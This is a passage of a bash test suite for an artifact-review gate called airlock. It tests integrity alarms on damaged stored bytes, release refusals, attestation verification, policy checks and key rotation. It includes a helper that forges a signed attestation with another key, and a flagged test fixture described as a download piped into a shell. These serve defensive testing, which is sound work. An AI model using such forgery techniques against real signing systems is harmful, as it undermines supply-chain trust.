	view "${REV[2]}" "$S"
	approve_raw "${REV[2]}" "$S" "$SHA" "$RS"
	expect_code 403 "approve a rejected submission"
	as "${REV[2]}" approve "$S"
	expect_rc 1 "airlock approve of a rejected submission"
	as "${REV[2]}" reject "$S" -m "again"
	expect_rc 1 "reject twice"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release a rejected submission"
	expect_error_json "$CI"
	as "$CI" release "$S" -o att.json
	expect_rc 1 "airlock release of a rejected submission"
	[ ! -e att.json ] || fail "an attestation was written for a rejected submission"
	api POST "/v1/submissions/$S/release" "$ADMIN" --data-binary '{}'
	expect_code 409 "release by the admin of a rejected submission"
	as "$CI" pull "$S"
	expect_rc 1 "airlock pull of a rejected submission"
	expect_out_empty
	api GET "/v1/submissions/$S/attestation" "$CI"
	expect_code 404 "attestation of a rejected submission"
	standing "$S" rejected 0 1
	events "$S"
	expect_all '[(e["actor"], e["detail"]) for e in E("reject")]' \
		"[('rev-1', 'sha256=$SHA comment=deletes the home directory')]" \
		'len(E("release")) + len(E("approve"))' 0
	srv_stop
}

# ---- 5. release re-hashes the stored bytes ---------------------------------------

t_release_refuses_altered_blob() {
	local AG CI S f
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	echo 'print("approved bytes")' >ok.py
	held "$AG" ok.py name=ok.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	standing "$S" approved 1 1
	f=$(blob "$SHA")
	[ "$(stat -c %a "$f")" = 400 ] || fail "the stored object is mode $(stat -c %a "$f"), expected 0400"
	chmod u+w "$f"
	printf 'X' >>"$f"
	chmod 0400 "$f"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release of altered bytes"
	expect_error_json "$CI"
	expect_out_has "nothing was released"
	as "$CI" release "$S" -o att.json
	expect_rc 1 "airlock release of altered bytes"
	[ ! -e att.json ] || fail "an attestation was written for altered bytes"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' approved
	api GET "/v1/submissions/$S/attestation" "$CI"
	expect_code 404 "attestation after a refused release"
	as "$CI" pull "$S" -o got.py
	expect_rc 1 "airlock pull after a refused release"
	[ ! -e got.py ] || fail "airlock pull wrote the altered bytes"
	events "$S"
	expect_all '[(e["actor"], e["detail"]) for e in E("release.refused")]' \
		"[('ci-1', 'the stored bytes do not match the approved sha256: nothing was released'), ('ci-1', 'the stored bytes do not match the approved sha256: nothing was released')]" \
		'len(E("release"))' 0
	# Same size, one byte changed: refused as well.
	chmod u+w "$f"
	cp ok.py "$f"
	printf 'x' | dd of="$f" bs=1 seek=0 conv=notrunc status=none
	chmod 0400 "$f"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release of bytes changed in place (same size)"
	# The bytes back as approved: the release goes through.
	chmod u+w "$f"
	cp ok.py "$f"
	chmod 0400 "$f"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release once the bytes are back"
	"$BIN" verify --key data/keys/signing.pub att.json ok.py >"$OUT" 2>"$ERR" ||
		fail "verify of the release after the bytes were restored"
	srv_stop
}

# ---- 5b. stored bytes read again: the integrity alarm --------------------------------

# metric NAME{LABELS}: its value in $OUT (Prometheus text), or "absent".
metric() {
	awk -v k="$1" '$1 == k && NF == 2 { print $2; f = 1; exit } END { if (!f) print "absent" }' "$OUT"
}

# flip FILE OFFSET: one byte of a stored object changed in place (its
# size, mode and inode stay).
flip() {
	chmod u+w "$1"
	python3 - "$1" "$2" <<'EOF2'
import sys
with open(sys.argv[1], "r+b") as f:
    f.seek(int(sys.argv[2]))
    c = f.read(1)
    f.seek(int(sys.argv[2]))
    f.write(bytes([c[0] ^ 0x20]))
EOF2
	chmod 0400 "$1"
}

# Issue 13, item 7: a damaged blob was served for review without being
# hashed again. Now neither the whole content nor a range of it is served:
# 500 "integrity alarm: …", an integrity.mismatch event, the log line, the
# metric, the 5xx counted; the submission goes back to be scanned, and that
# scan, which hashes the blob first, makes it unscannable with a finding
# that says why; an approval needs a view and gets none. The next upload
# of the true bytes replaces the damaged object: both read back whole.
t_damaged_content_is_an_alarm() {
	local AG f before
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	printf 'harmless text, one byte of it will flip: 0123456789\n' >orig.txt
	held "$AG" orig.txt name=orig.txt
	S=$SID
	f=$(blob "$SHA")
	flip "$f" 5
	api GET "/v1/submissions/$S/content" "${REV[1]}"
	expect_code 500 "content that does not hash to its sha256"
	expect_error_json
	expect_out_lacks "one byte of it"
	expect_all 'd["error"]' "integrity alarm: the stored bytes of submission $S do not verify against their sha256 ${SHA:0:16}…: nothing was served; the submission is scanned again"
	grep -q "airlock serve: integrity alarm: submission $S, where=content object=$SHA: the stored bytes (52 of them) hash to " serve.log ||
		fail "no integrity alarm in the log"
	grep -q "airlock serve: answered 500 to content of submission $S: integrity alarm: " serve.log ||
		fail "the 500 is not in the log"
	# The rescan finds the artifact unscannable, and says why.
	wait_state "$S" held
	expect_all 'd["verdict"]' unscannable \
		'[(f["rule"], f["severity"]) for f in F]' "[('airlock.unscannable', 'high')]" \
		'F[0]["excerpt"].startswith("integrity: the stored bytes (52 of them) hash to ")' True \
		'F[0]["excerpt"].endswith(", before the scan: the store was damaged, and what it holds is not what was submitted")' True
	# A range is verified the same way (the whole blob is hashed first);
	# unscannable already, the submission is not scanned again.
	api GET "/v1/submissions/$S/content" "${REV[1]}" -H 'Range: bytes=10-20'
	expect_code 500 "a range of content that does not hash to its sha256"
	expect_out_lacks "one byte"
	expect_all 'd["error"]' "integrity alarm: the stored bytes of submission $S do not verify against their sha256 ${SHA:0:16}…: nothing was served"
	events "$S"
	expect_all '[e["detail"].split(":")[0] for e in E("integrity.mismatch")]' \
		"['where=content object=$SHA', 'where=scan object=$SHA', 'where=content object=$SHA']" \
		'[e["actor"] for e in E("integrity.mismatch")]' "[None, None, None]" \
		'[e["detail"] for e in E("rescan")]' "['the stored bytes did not verify']" \
		'len(E("view"))' 0
	api GET "/v1/submissions/$S" "$ADMIN"
	approve_raw "${REV[1]}" "$S" "$SHA" "$(jsonq 'd["scan"]["ruleset"]')"
	expect_code 403 "an approval of bytes never served"
	api GET /metrics "$ADMIN"
	expect_code 200 "metrics"
	expect_eq "$(metric 'airlock_integrity_alarms_total{where="content"}')" 2 "alarms seen serving content"
	expect_eq "$(metric 'airlock_integrity_alarms_total{where="scan"}')" 1 "alarms seen scanning"
	expect_eq "$(metric 'airlock_integrity_alarms_total{where="item"}')" 0 "alarms seen serving items"
	expect_eq "$(metric 'airlock_http_server_errors_total{status="500"}')" 2 "500 answers"
	# The true bytes again: a new submission; the object is whole again.
	submit "$AG" orig.txt name=again.txt
	[ "$(sha256sum <"$f" | cut -c1-64)" = "$SHA" ] || fail "the damaged object was kept over the true bytes"
	grep -q "integrity: objects/${SHA:0:2}/$SHA: the stored bytes (52 of them) hash to .*; replaced by an upload of its bytes" serve.log ||
		fail "the log does not say the object was replaced"
	wait_state "$SID" held
	expect_all 'd["verdict"]' clean
	view "${REV[1]}" "$SID"
	cmp -s "$OUT" orig.txt || fail "the content served is not the true bytes"
	srv_stop
}

# Bytes that change after the check but while they stream (the reader is
# slow, the last bytes are not read yet) cut the answer short: the last
# chunk is never sent, the client sees a truncated body, never a whole one
# of other bytes, and it is an alarm. (24 MiB, read at 8 MB/s: what the
# kernel buffers on loopback is far less than the part still unread.)
t_content_changed_while_served() {
	local AG f rc=0 got i
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	head -c 25165824 /dev/urandom >big.bin
	held "$AG" big.bin name=big.bin
	S=$SID
	f=$(blob "$SHA")
	curl -sS --max-time 60 --limit-rate 8M -o served.bin -H "Authorization: Bearer ${REV[1]}" \
		"$URL/v1/submissions/$S/content" 2>curl.err &
	local CURL=$!
	for i in $(seq 1 200); do
		[ -s served.bin ] && break
		sleep 0.05
	done
	[ -s served.bin ] || fail "nothing was served within 10 s"
	flip "$f" 25165820
	wait "$CURL" || rc=$?
	got=$(wc -c <served.bin)
	[ "$rc" != 0 ] || fail "curl read a whole answer of bytes that changed"
	[ "$got" -lt 25165824 ] || fail "the whole body was served"
	cmp -s served.bin <(head -c "$got" big.bin) || fail "what was served before the cut is not the bytes"
	# The alarm sent it back to be scanned, and the scan, which hashes
	# first, found the blob damaged.
	wait_state "$S" held
	expect_all 'd["verdict"]' unscannable
	events "$S"
	expect_all '[e["detail"].split(":")[0] for e in E("integrity.mismatch")]' "['where=content object=$SHA', 'where=scan object=$SHA']" \
		'E("integrity.mismatch")[0]["detail"].split(": ", 1)[1].startswith("the stored bytes changed while they were served: they hash to ")' True \
		'[e["detail"].split(" ")[:2] for e in E("view")]' "[['content', 'full']]"
	srv_stop
}

# A kept member of an archive, damaged: its content is not served (500, an
# alarm where=item, the submission scanned again); that scan reads the
# artifact, which is intact, and keeps the member's bytes afresh, so the
# item is served whole again.
t_damaged_item_is_an_alarm() {
	local AG isha f n
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 1
	mkdir p
	printf 'first member, a plain line of text\n' >p/a.txt
	printf 'second member\n' >p/b.txt
	tar -C p -cf x.tar a.txt b.txt || fail "tar"
	held "$AG" x.tar name=x.tar
	S=$SID
	n=$(item_index 'x.tar!/a.txt')
	[ -n "$n" ] || fail "no item x.tar!/a.txt"
	isha=$(jsonq "d['items'][$n]['sha256']")
	f=$(blob "$isha")
	flip "$f" 0
	api GET "/v1/submissions/$S/items/$n/content" "${REV[1]}"
	expect_code 500 "an item whose kept bytes do not verify"
	expect_out_lacks "member"
	expect_all 'd["error"]' "integrity alarm: the kept bytes of item $n of submission $S do not verify against their sha256 ${isha:0:16}…: nothing was served; the submission is scanned again"
	wait_state "$S" held
	expect_all 'd["verdict"]' clean
	events "$S"
	expect_all '[e["detail"].split(":")[0] for e in E("integrity.mismatch")]' \
		"['where=item object=$isha item=$n path=x.tar!/a.txt']" \
		'len(E("rescan"))' 1
	api GET "/v1/submissions/$S/items/$n/content" "${REV[1]}"
	expect_code 200 "the item, kept afresh by the rescan"
	cmp -s "$OUT" p/a.txt || fail "the item served is not the member's bytes"
	grep -q "integrity: objects/${isha:0:2}/$isha: .*replaced by an upload of its bytes" serve.log ||
		fail "the log does not say the item's object was replaced"
	api GET /metrics "$ADMIN"
	expect_eq "$(metric 'airlock_integrity_alarms_total{where="item"}')" 1 "alarms seen serving items"
	srv_stop
}

# The scan hashes the blob again after the child read it: bytes changed
# while it was scanned (here: during a scan held up on purpose until its
# timeout) are unscannable with the integrity finding, not whatever the
# scan made of them.
t_blob_changed_during_scan_is_unscannable() {
	local AG f
	AIRLOCK_TEST_CHILD_FAULT=hang:slow srv_start --timeout 3
	mk_token agent agent-1 alice
	AG=$TOK
	printf 'bytes that change while they are scanned\n' >slow.txt
	submit "$AG" slow.txt name=slow.txt
	S=$SID
	wait_state "$S" scanning 10
	f=$(blob "$SHA")
	flip "$f" 0
	wait_state "$S" held 20
	expect_all 'd["verdict"]' unscannable \
		'len(F)' 1 \
		'F[0]["excerpt"].startswith("integrity: the stored bytes (41 of them) hash to ")' True \
		'", after the scan: the store was damaged" in F[0]["excerpt"]' True
	events "$S"
	expect_all '[e["detail"].split(":")[0] for e in E("integrity.mismatch")]' \
		"['where=scan object=$SHA']"
	srv_stop
}

# Release: bytes that do not verify are refused (as before) and are an
# alarm too (event, metric), without changing the submission: the approval
# is of those bytes, and they may be put back from a backup.
t_release_of_damaged_bytes_is_an_alarm() {
	local AG CI S f
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	echo 'print("approved bytes")' >ok.py
	held "$AG" ok.py name=ok.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	f=$(blob "$SHA")
	flip "$f" 3
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 409 "release of damaged bytes"
	events "$S"
	expect_all '[e["detail"].split(":")[0] for e in E("integrity.mismatch")]' "['where=release object=$SHA']" \
		'len(E("rescan"))' 0
	standing "$S" approved 1 1
	api GET /metrics "$ADMIN"
	expect_eq "$(metric 'airlock_integrity_alarms_total{where="release"}')" 1 "alarms seen releasing"
	srv_stop
}

# ---- 6. the attestation ----------------------------------------------------------

# tamper IN OUT WHAT: a copy of the envelope IN with WHAT changed:
# payload-byte (one byte of the decoded payload flipped), payload-digest
# (the subject's sha256 replaced), sig-byte (one byte of the signature
# flipped), type (payloadType), sigs-empty (no signatures).
tamper() {
	python3 - "$@" <<'EOF'
import base64, json, sys
src, dst, what = sys.argv[1:4]
e = json.load(open(src))
if what == "payload-byte":
    p = bytearray(base64.b64decode(e["payload"]))
    i = p.index(b'"sha256":"') + 12  # a hex digit of a digest
    p[i] = ord("0") if p[i] != ord("0") else ord("1")
    e["payload"] = base64.b64encode(bytes(p)).decode()
elif what == "payload-digest":
    st = json.loads(base64.b64decode(e["payload"]))
    st["subject"][0]["digest"]["sha256"] = "0" * 64
    e["payload"] = base64.b64encode(json.dumps(st, separators=(",", ":"), sort_keys=True).encode()).decode()
elif what == "sig-byte":
    s = bytearray(base64.b64decode(e["signatures"][0]["sig"]))
    s[10] ^= 1
    e["signatures"][0]["sig"] = base64.b64encode(bytes(s)).decode()
elif what == "type":
    e["payloadType"] = "application/json"
elif what == "sigs-empty":
    e["signatures"] = []
json.dump(e, open(dst, "w"), indent=2)
EOF
}

# verify_rc WANT WHAT ARGS...: airlock verify ARGS exits WANT.
verify_rc() {
	local want=$1 what=$2
	shift 2
	RC=0
	"$BIN" verify "$@" >"$OUT" 2>"$ERR" || RC=$?
	[ "$RC" = "$want" ] || fail "airlock verify $*: exit $RC, expected $want ($what): $(cat "$ERR")"
}

# forger_id KEY: the key id (sha256 of the public key's DER) of a private key.
forger_id() {
	openssl pkey -in "$1" -pubout -outform DER 2>/dev/null | sha256sum | cut -c1-64
}

# resign ENVELOPE KEY OUT: the envelope's statement, naming KEY as the
# gate's key (predicate.gate_key) and signed with it (openssl), as the only
# signature, under KEY's key id: a well-made forgery.
resign() {
	local id
	id=$(forger_id "$2")
	[ ${#id} = 64 ] || fail "no key id for $2"
	python3 - "$1" pae.bin "$id" payload.b64 <<'EOF'
import base64, json, sys
e = json.load(open(sys.argv[1]))
st = json.loads(base64.b64decode(e["payload"]))
st["predicate"]["gate_key"] = sys.argv[3]
p = json.dumps(st, separators=(",", ":"), sort_keys=True).encode()
t = e["payloadType"].encode()
open(sys.argv[2], "wb").write(b"DSSEv1 %d %s %d " % (len(t), t, len(p)) + p)
open(sys.argv[4], "w").write(base64.b64encode(p).decode())
EOF
	openssl pkeyutl -sign -rawin -inkey "$2" -in pae.bin -out sig.bin 2>"$ERR" ||
		fail "openssl cannot sign with $2: $(cat "$ERR")"
	python3 - "$1" sig.bin "$3" "$id" payload.b64 <<'EOF'
import base64, json, sys
e = json.load(open(sys.argv[1]))
e["payload"] = open(sys.argv[5]).read()
e["signatures"] = [{"keyid": sys.argv[4], "sig": base64.b64encode(open(sys.argv[2], "rb").read()).decode()}]
json.dump(e, open(sys.argv[3], "w"), indent=2)
EOF
}

t_attestation_verifies() {
	local AG CI S keyid w
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'def add(a, b):\n    return a + b\n' >lib.py
	held "$AG" lib.py 'name=lib.py&label=task=T-7'
	S=$SID
	approve_as "${REV[1]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "airlock release"
	# The gate's key, as CI pins it.
	RC=0
	"$BIN" key show --data "$PWD/data" >gate.pub 2>key.err || RC=$?
	expect_rc 0 "airlock key show"
	cmp -s gate.pub data/keys/signing.pub || fail "airlock key show does not print DATA/keys/signing.pub"
	keyid=$(grep -o '[0-9a-f]\{64\}' key.err)
	[ -n "$keyid" ] || fail "airlock key show printed no key id: $(cat key.err)"
	# The statement: what was released, by whom, approved by whom.
	python3 -c 'import base64, json, sys; e = json.load(open("att.json")); print(base64.b64decode(e["payload"]).decode())' >"$OUT" ||
		fail "att.json is not a DSSE envelope with a base64 payload"
	expect_all 'd["_type"]' 'https://in-toto.io/Statement/v1' \
		'd["subject"]' "[{'digest': {'sha256': '$SHA'}, 'name': 'lib.py'}]" \
		'd["predicate"]["submitter"]' agent-1 'd["predicate"]["launched_by"]' alice \
		'd["predicate"]["released_by"]' ci-1 'd["predicate"]["gate_key"]' "$keyid" \
		'd["predicate"]["scan"]["ruleset"]' "$RS" 'd["predicate"]["scan"]["verdict"]' clean \
		'[(a["reviewer"], a["person"], a["sha256"], a["ruleset"]) for a in d["predicate"]["approvals"]]' "[('rev-1', 'rev-1', '$SHA', '$RS')]" \
		'd["predicate"]["agent_asserted"]' "{'labels': {'task': 'T-7'}}"
	# The stored attestation is the one printed.
	api GET "/v1/submissions/$S/attestation" "$CI"
	expect_code 200 "GET attestation"
	python3 -c 'import json, sys; assert json.load(open(sys.argv[1])) == json.load(open("att.json"))' "$OUT" ||
		fail "GET /attestation differs from what airlock release printed"

	verify_rc 0 "the attestation and the artifact" --key gate.pub att.json lib.py
	expect_out_has "the artifact matches"
	# No artifact is no pass: a usage error unless asked for on purpose.
	verify_rc 2 "the attestation alone" --key gate.pub att.json
	expect_err_has "no ARTIFACT"
	verify_rc 2 "an empty artifact argument" --key gate.pub att.json ""
	verify_rc 0 "the attestation alone, --no-artifact" --key gate.pub --no-artifact att.json
	expect_out_has "no artifact given"
	expect_err_has "WARNING: --no-artifact"
	verify_rc 2 "--no-artifact with an artifact" --key gate.pub --no-artifact att.json lib.py
	AIRLOCK_PUBKEY=$PWD/data/keys/signing.pub verify_rc 0 "the key from AIRLOCK_PUBKEY" att.json lib.py

	# Any byte of the artifact.
	cp lib.py lib2.py
	printf 'x' | dd of=lib2.py bs=1 seek=4 conv=notrunc status=none
	verify_rc 1 "an artifact with one byte changed" --key gate.pub att.json lib2.py
	cp lib.py lib3.py
	printf '\n' >>lib3.py
	verify_rc 1 "an artifact with one byte more" --key gate.pub att.json lib3.py
	# Any byte of the payload, the signature; the payload type; no signature.
	for w in payload-byte payload-digest sig-byte type sigs-empty; do
		tamper att.json bad.json "$w"
		verify_rc 1 "tampered: $w" --key gate.pub bad.json lib.py
		verify_rc 1 "tampered: $w, no artifact" --key gate.pub --no-artifact bad.json
	done
	# Not JSON at all.
	echo 'not an envelope' >junk.json
	verify_rc 1 "not an envelope" --key gate.pub junk.json lib.py

	# Another gate's key: neither its key verifies ours, nor ours its.
	"$BIN" init --data "$PWD/other" >/dev/null 2>"$ERR" || fail "airlock init of a second gate"
	verify_rc 1 "verified with another gate's key" --key other/keys/signing.pub att.json lib.py
	verify_rc 1 "verified with another gate's key, no artifact" --key other/keys/signing.pub --no-artifact att.json
	expect_err_has "not in the keyring"
	resign att.json other/keys/signing.key forged.json
	verify_rc 0 "the forged envelope with the forger's key (the forgery is well made)" \
		--key other/keys/signing.pub forged.json lib.py
	verify_rc 1 "the same statement signed by another key" --key gate.pub forged.json lib.py
	verify_rc 1 "the same statement signed by another key, no artifact" --key gate.pub --no-artifact forged.json
	# With both keys trusted the forgery passes (it is signed by a trusted
	# key); its key id changed to ours, ours is tried and fails.
	verify_rc 0 "the forgery, both keys in the keyring" \
		--key gate.pub --key other/keys/signing.pub forged.json lib.py
	sed "s/$(forger_id other/keys/signing.key)/$keyid/" forged.json >forged2.json
	verify_rc 1 "the forgery, both keys in the keyring, our key id" \
		--key gate.pub --key other/keys/signing.pub forged2.json lib.py
	srv_stop
}

# ---- 6b. verify fails closed; release again; keys that rotate -------------------

# verify with policy checks: approvals by distinct persons, the worst
# severity, the verdict; --json lists every check and its result; what
# cannot be read exits 2.
t_verify_policy_checks() {
	local AG CI S F n
	srv_init
	echo 'approvals.clean = 2' >data/policy
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 3
	printf 'def add(a, b):\n    return a + b\n' >lib.py
	held "$AG" lib.py name=lib.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	approve_as "${REV[2]}" "$S"
	as "$CI" release "$S" -o att.json
	expect_rc 0 "release of a clean file with 2 approvals"
	cp data/keys/signing.pub gate.pub

	verify_rc 0 "--min-approvals 2 on a 2-approval release" --key gate.pub --min-approvals 2 att.json lib.py
	expect_out_has "ok      min-approvals: 2 approvals by distinct persons, 2 required"
	verify_rc 1 "--min-approvals 3 on a 2-approval release" --key gate.pub --min-approvals 3 att.json lib.py
	expect_err_has "FAILED  min-approvals: 2 approvals by distinct persons, 3 required"
	# --json: every check and its result, on stdout, with the same exit.
	verify_rc 1 "--json --min-approvals 3" --json --key gate.pub --min-approvals 3 \
		--max-severity low --require-verdict clean att.json lib.py
	expect_all 'd["verified"]' False 'd["artifact"]' lib.py \
		'[(c["check"], c["result"]) for c in d["checks"]]' \
		"[('signature', 'pass'), ('subject', 'pass'), ('artifact', 'pass'), ('min-approvals', 'fail'), ('max-severity', 'pass'), ('require-verdict', 'pass')]" \
		'd["key_id"]' "$(forger_id data/keys/signing.key)"
	verify_rc 0 "--json, all hold" --json --key gate.pub --min-approvals 2 --max-severity info \
		--require-verdict clean att.json lib.py
	expect_all 'd["verified"]' True '[c["result"] for c in d["checks"]]' \
		"['pass', 'pass', 'pass', 'pass', 'pass', 'pass']"
	# An artifact path that is not UTF-8: valid JSON, its bytes in
	# artifact_hex (docs/api.md, "Text that is not UTF-8"); a detail
	# quotes it escaped, as the text output does.
	cp lib.py "lib"$'\xff'".py"
	verify_rc 0 "--json, a path not UTF-8" --json --key gate.pub "att.json" "lib"$'\xff'".py"
	expect_all 'd["artifact"] == "lib\ufffd.py" and bytes.fromhex(d["artifact_hex"]) == b"lib\xff.py"' True \
		'[c["detail"] for c in d["checks"] if c["check"] == "artifact"] == ["lib\\xff.py matches"]' True \
		'any("detail_hex" in c for c in d["checks"])' False
	verify_rc 0 "a path not UTF-8" --key gate.pub "att.json" "lib"$'\xff'".py"
	expect_out_has 'ok      artifact: lib\xff.py matches'
	verify_rc 1 "--require-verdict flagged on a clean release" --key gate.pub --require-verdict flagged att.json lib.py
	# A bad signature: the policy checks are not run, and not passed.
	tamper att.json bad.json sig-byte
	verify_rc 1 "--json, bad signature" --json --key gate.pub --min-approvals 1 bad.json lib.py
	expect_all '[(c["check"], c["result"]) for c in d["checks"]]' \
		"[('signature', 'fail'), ('subject', 'skipped'), ('artifact', 'skipped'), ('min-approvals', 'skipped')]"
	# The wrong artifact with --json.
	verify_rc 1 "--json, another artifact" --json --key gate.pub att.json gate.pub
	expect_all '[c["result"] for c in d["checks"]]' "['pass', 'pass', 'fail']"
	# Cannot read: 2. Usage: 2.
	verify_rc 2 "an artifact that is not there" --key gate.pub att.json nosuch.py
	verify_rc 2 "an attestation that is not there" --key gate.pub nosuch.json lib.py
	verify_rc 2 "a key that is not there" --key nosuch.pub att.json lib.py
	verify_rc 2 "--min-approvals x" --key gate.pub --min-approvals x att.json lib.py
	verify_rc 2 "--max-severity bogus" --key gate.pub --max-severity bogus att.json lib.py
	verify_rc 2 "--require-verdict bogus" --key gate.pub --require-verdict bogus att.json lib.py
	verify_rc 2 "no arguments" --key gate.pub

	# A flagged release (a download into a shell: high).
	curlsh_file get.sh
	held "$AG" get.sh name=get.sh
	F=$SID
	n=$(jsonq 'd["review"]["needed"]')
	for i in $(seq 1 "$n"); do approve_as "${REV[i]}" "$F"; done
	as "$CI" release "$F" -o flagged.att.json
	expect_rc 0 "release of the flagged file with $n approvals"
	verify_rc 1 "--max-severity medium on a high finding" --key gate.pub --max-severity medium flagged.att.json get.sh
	expect_err_has "FAILED  max-severity: worst finding: high, at most medium allowed"
	verify_rc 0 "--max-severity high on a high finding" --key gate.pub --max-severity high flagged.att.json get.sh
	verify_rc 1 "--require-verdict clean on a flagged release" --key gate.pub --require-verdict clean flagged.att.json get.sh
	expect_err_has "FAILED  require-verdict: verdict flagged, clean required"
	verify_rc 0 "--require-verdict flagged" --key gate.pub --require-verdict flagged flagged.att.json get.sh
	srv_stop
}

t_release_twice() {
	local AG CI AU S U
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	mk_token auditor aud-1
	AU=$TOK
	reviewers 1
	printf 'x = 1\n' >x.py
	held "$AG" x.py name=x.py
	S=$SID
	approve_as "${REV[1]}" "$S"
	# Not released yet: no attestation.
	as "$CI" attestation "$S"
	expect_rc 1 "airlock attestation before the release"
	expect_err_has "HTTP 404"
	as "$CI" release "$S" -o a1.json
	expect_rc 0 "the first release"
	sleep 0.01
	# A CI retry: the same attestation, exit 0; HTTP 200 with it.
	as "$CI" release "$S" -o a2.json
	expect_rc 0 "the second release"
	cmp -s a1.json a2.json || fail "the second release gave another attestation"
	api POST "/v1/submissions/$S/release" "$CI" --data-binary '{}'
	expect_code 200 "POST release of a released submission"
	python3 -c 'import json, sys; assert json.load(open(sys.argv[1])) == json.load(open("a1.json"))' "$OUT" ||
		fail "POST release again answered another attestation"
	# Still released once: one release event.
	events "$S"
	expect_all 'len(E("release"))' 1
	# airlock attestation: the same, for ci and the auditor; not the agent.
	as "$CI" attestation "$S" -o a3.json
	expect_rc 0 "airlock attestation -o"
	cmp -s a1.json a3.json || fail "airlock attestation differs from the release's"
	as "$AU" attestation "$S"
	expect_rc 0 "airlock attestation by the auditor"
	python3 -c 'import json, sys; assert json.load(open(sys.argv[1])) == json.load(open("a1.json"))' "$OUT" ||
		fail "airlock attestation (stdout) differs from the release's"
	as "$AG" attestation "$S"
	expect_rc 1 "airlock attestation by the agent"
	expect_err_has "HTTP 403"
	verify_rc 0 "the fetched attestation" --key data/keys/signing.pub a3.json x.py
	# Roles still hold on a released submission: no second look for those
	# who may not release.
	api POST "/v1/submissions/$S/release" "$AU" --data-binary '{}'
	expect_code 403 "release again by an auditor"
	# A rejected one is still refused, not answered.
	printf 'y = 2\n' >y.py
	held "$AG" y.py name=y.py
	U=$SID
	as "${REV[1]}" reject "$U" -m "no"
	expect_rc 0 "reject"
	as "$CI" release "$U"
	expect_rc 1 "release of a rejected submission"
	srv_stop
}

t_key_rotation() {
	local AG CI S1 S2 old new
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 1
	printf 'a = 1\n' >a.py
	held "$AG" a.py name=a.py
	S1=$SID
	approve_as "${REV[1]}" "$S1"
	as "$CI" release "$S1" -o old.att.json
	expect_rc 0 "release before the rotation"
	"$BIN" key show --data "$PWD/data" >old.pub 2>"$ERR" || fail "airlock key show"
	old=$(forger_id data/keys/signing.key)
	RC=0
	"$BIN" key list --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "airlock key list before any rotation"
	expect_eq "$(grep -c '(current)' "$OUT")" 1 "current keys listed"
	expect_out_has "$old"

	# Rotate while the gate runs: the next release is signed by the new key.
	RC=0
	"$BIN" key rotate --data "$PWD/data" >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "airlock key rotate"
	new=$(forger_id data/keys/signing.key)
	[ "$new" != "$old" ] || fail "the key did not change"
	"$BIN" key show --data "$PWD/data" >new.pub 2>"$ERR" || fail "airlock key show after the rotation"
	cmp -s new.pub data/keys/signing.pub || fail "key show does not show the new key"
	"$BIN" key list --data "$PWD/data" >"$OUT" 2>"$ERR" || fail "airlock key list"
	expect_eq "$(grep -c "^$new .* - *(current)\$" "$OUT")" 1 "the new key, current, not retired"
	expect_eq "$(grep -c "^$old  [0-9T:.Z-]*  [0-9T:.Z-]*\$" "$OUT")" 1 "the old key, retired"
	"$BIN" key show --all --data "$PWD/data" >keyring.pem 2>"$ERR" || fail "airlock key show --all"
	expect_eq "$(grep -c 'BEGIN PUBLIC KEY' keyring.pem)" 2 "keys in key show --all"

	printf 'b = 2\n' >b.py
	held "$AG" b.py name=b.py
	S2=$SID
	approve_as "${REV[1]}" "$S2"
	as "$CI" release "$S2" -o new.att.json
	expect_rc 0 "release after the rotation (no restart)"
	python3 -c 'import base64, json; e = json.load(open("new.att.json")); print(e["signatures"][0]["keyid"], json.loads(base64.b64decode(e["payload"]))["predicate"]["gate_key"])' >ids.txt
	expect_eq "$(cat ids.txt)" "$new $new" "the key id of the new attestation"

	# The old attestation: with the keyring, yes; with the new key alone, no.
	verify_rc 0 "old attestation, old and new keys" --key new.pub --key old.pub old.att.json a.py
	verify_rc 0 "old attestation, key show --all" --key keyring.pem old.att.json a.py
	verify_rc 1 "old attestation, the new key alone" --key new.pub old.att.json a.py
	expect_err_has "not in the keyring"
	AIRLOCK_DATA=$PWD/data verify_rc 1 "old attestation, AIRLOCK_DATA's signing.pub" old.att.json a.py
	verify_rc 0 "new attestation, key show --all" --key keyring.pem new.att.json b.py
	verify_rc 1 "new attestation, the old key alone" --key old.pub new.att.json b.py
	# A release again after the rotation: the stored one, by the old key.
	as "$CI" release "$S1" -o again.att.json
	expect_rc 0 "release again after the rotation"
	cmp -s old.att.json again.att.json || fail "release again after a rotation gave another attestation"
	# On the record.
	python3 - data/airlock.db "$old" "$new" <<'EOF' || fail "no key.rotate event naming both keys"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
rows = db.execute("select detail from events where action = 'key.rotate'").fetchall()
assert len(rows) == 1 and sys.argv[2] in rows[0][0] and sys.argv[3] in rows[0][0], rows
EOF
	# Twice more: three retired windows, one current.
	"$BIN" key rotate --data "$PWD/data" >/dev/null 2>"$ERR" || fail "a second rotation"
	"$BIN" key list --data "$PWD/data" >"$OUT" 2>"$ERR" || fail "airlock key list"
